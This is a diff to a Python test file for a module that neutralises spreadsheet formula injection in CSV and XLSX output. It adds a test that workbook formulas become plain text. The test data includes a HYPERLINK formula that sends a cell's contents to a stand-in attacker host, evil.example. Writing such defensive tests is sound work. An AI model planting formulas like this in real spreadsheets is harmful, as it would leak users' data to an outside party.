@@ -2,10 +2,11 @@
 
 import csv
 import io
+import zipfile
 
 import pytest
 
-from outage_response.domain.spreadsheet_cells import quoted, quoted_csv, unquoted
+from outage_response.domain.spreadsheet_cells import quoted, quoted_csv, quoted_xlsx, unquoted
 
 RUN = (
 	'=HYPERLINK("http://evil.example/?" & A1,"click")',
@@ -50,3 +51,17 @@ def test_a_long_cell_is_read_once():
 	"""Two million signs, in well under a second: what somebody wrote decides nothing about how long it takes."""
 	for text in ('"' * 2_000_001, "=" * 2_000_000, ',"' * 1_000_000):
 		quoted_csv(text)
+
+
+def test_a_formula_of_a_workbook_becomes_the_text_that_was_written():
+	formula = '<row><c r="A1" s="1" t="str"><f>1+1</f><v>2</v></c><c r="B1"><v>7</v></c></row>'
+	before = io.BytesIO()
+	with zipfile.ZipFile(before, "w") as book:
+		book.writestr("xl/worksheets/sheet1.xml", formula)
+		book.writestr("xl/styles.xml", formula)
+	with zipfile.ZipFile(io.BytesIO(quoted_xlsx(before.getvalue()))) as book:
+		sheet = book.read("xl/worksheets/sheet1.xml").decode()
+		assert "<f>" not in sheet and ">=1+1</t>" in sheet
+		assert 'r="A1"' in sheet and 't="str"' not in sheet  # the cell stays where it was, as text
+		assert '<c r="B1"><v>7</v></c>' in sheet
+		assert book.read("xl/styles.xml").decode() == formula
